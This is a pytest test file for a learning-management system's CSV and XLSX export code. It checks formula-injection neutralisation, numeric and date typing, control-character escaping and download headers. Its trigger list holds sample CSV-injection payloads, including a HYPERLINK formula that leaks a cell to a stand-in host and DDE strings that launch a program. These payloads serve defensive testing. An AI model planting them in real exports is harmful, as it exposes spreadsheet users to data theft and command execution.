"""lms/exports.py: no text cell of a CSV or XLSX export can become a spreadsheet formula
(OWASP's CSV-injection advice), numbers stay numbers, and downloads say their charset once.

The trigger check below is written out again on purpose: the tests must not trust the
function they test.
"""
from __future__ import annotations

import ast
import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lms import exports
from lms.exports import Cell, Column, Row, Table, decimal_cell, fixed_cell, int_cell, percent_cell, text_cell

LMS = Path(__file__).resolve().parent.parent / "lms"

# One hostile text per trigger: OWASP's = + - @ tab CR, NUL (ASVS 1.2.10), full-width and small
# forms of them, and a trigger behind leading blanks.
TRIGGERS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A3,"Klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "nul": "\0=1+1",
    "full-width-equals": "\uff1d1+1",
    "full-width-plus": "\uff0b1+1",
    "full-width-minus": "\uff0d1+1",
    "full-width-at": "\uff20SUM(1+1)",
    "small-equals": "\ufe661+1",
    "space-then-equals": "  =1+1",
    "nbsp-then-at": "\u00a0@SUM(1)",
}
HARMLESS = ["Ani Suryaningsih", "|cmd", "%1", "—", "", "'quoted", "1+1=2", "a=b", "Budi - Cabang A", "2025-01"]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(exports.BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def one_table(*cells: Cell, label: str = "Header") -> Table:
    return Table("t", "Sheet", [Column(f"c{i}", label) for i in range(len(cells))], [Row(list(cells))])


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.mark.parametrize("text", list(TRIGGERS.values()), ids=list(TRIGGERS))
def test_a_formula_like_text_is_quoted_in_csv_and_a_string_in_xlsx(text):
    table = one_table(text_cell(text), label=text)
    header, row = csv_rows(exports.csv_bytes(table))
    assert row == ["'" + text] and header == ["'" + text]  # the header (people's names) too
    sheet = sheet_of(exports.xlsx_bytes([table]))
    if text.startswith("\0"):  # XML cannot hold NUL: written in OOXML's escaped form
        assert sheet["A2"].value == "_x0000_=1+1" and sheet["A2"].data_type == "s"
        return
    # XML reads a bare CR as a line feed (any reader does; a page shows both as a space)
    on_page = text.replace("\r", "\n")
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s" and cell.value == on_page  # exactly as on the page
        assert cell.quotePrefix  # editing the cell in Excel keeps it text


def test_control_characters_do_not_break_the_workbook():
    """A vertical tab pasted from a word processor into a name made every XLSX export that
    shows the person fail (openpyxl refuses C0 controls): it is written as ``_x000B_``, the
    form Excel and LibreOffice read back as the character."""
    table = one_table(text_cell("Ani\x0bSuryaningsih"), text_cell("a\x01b\x1fc"), int_cell(3))
    sheet = sheet_of(exports.xlsx_bytes([table]))
    assert [cell.value for cell in sheet[2]] == ["Ani_x000B_Suryaningsih", "a_x0001_b_x001F_c", 3]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_on_the_page(text):
    table = one_table(text_cell(text))
    assert csv_rows(exports.csv_bytes(table))[1] == [text]
    cell = sheet_of(exports.xlsx_bytes([table]))["A2"]
    assert cell.value == (text or None) and (cell.data_type == "s" or not text)
    assert not cell.quotePrefix


@pytest.mark.parametrize("cell, shown, stored", [
    (int_cell(7), "7", 7),
    (int_cell(-3), "-3", -3),
    (fixed_cell(-0.25), "-0.25", -0.25),
    (fixed_cell(0.5), "0.50", 0.5),
    (decimal_cell(-1.5), "-1.5", -1.5),
    (percent_cell(87.5), "88", 88),
    (percent_cell(-4), "-4", -4),
    (Cell("-62.5%", -0.625, "0.0%"), "-62.5%", -0.625),  # item analysis' facility, as a share
    (Cell("+5", 5), "+5", 5),
])
def test_numbers_stay_numbers(cell, shown, stored):
    assert csv_rows(exports.csv_bytes(one_table(cell)))[1] == [shown]  # no quote before a number
    target = sheet_of(exports.xlsx_bytes([one_table(cell)]))["A2"]
    assert target.data_type == "n" and target.value == stored and not target.quotePrefix


def test_dates_and_durations_stay_typed():
    table = one_table(Cell("2025-03-10", date(2025, 3, 10), "yyyy-mm-dd"),
                      Cell("1:05", timedelta(minutes=65), "[h]:mm"))
    assert csv_rows(exports.csv_bytes(table))[1] == ["2025-03-10", "1:05"]
    sheet = sheet_of(exports.xlsx_bytes([table]))
    assert sheet["A2"].is_date and sheet["B2"].value == timedelta(minutes=65)


def test_a_number_cell_whose_text_is_not_a_number_is_still_quoted():
    """Defence in depth: a cell built with a number behind user text (a bug) stays inert."""
    assert csv_rows(exports.csv_bytes(one_table(Cell("=1+1", 5))))[1] == ["'=1+1"]


def test_neutralise_helpers():
    for text in TRIGGERS.values():
        assert exports.starts_formula(text) and exports.neutralise(text) == "'" + text
    for text in HARMLESS:
        assert not exports.starts_formula(text) and exports.neutralise(text) == text


# --- Content-Type ----------------------------------------------------------------------------

def test_csv_download_says_its_charset_once(app):
    response = exports.csv_response(one_table(text_cell("x")), "x.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="x.csv"'
    xlsx = exports.xlsx_response([one_table(text_cell("x"))], "x.xlsx")
    assert xlsx.headers["Content-Type"] == exports.XLSX_MIMETYPE
    assert exports.download("BEGIN:VCALENDAR", "text/calendar", "m.ics").headers["Content-Type"] == \
        "text/calendar; charset=utf-8"
    with pytest.raises(ValueError):
        exports.download(b"", "text/csv; charset=utf-8", "x.csv")


def test_no_view_passes_a_charset_in_a_mimetype():
    """Werkzeug adds ``; charset=utf-8`` to any ``text/*`` mimetype, so a mimetype literal with
    parameters sends them twice: use ``content_type=`` or the bare type."""
    offenders = []
    for path in LMS.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg == "mimetype" and \
                    isinstance(node.value, ast.Constant) and ";" in str(node.value.value):
                offenders.append(f"{path.relative_to(LMS.parent)}:{node.value.lineno}")
    assert offenders == []
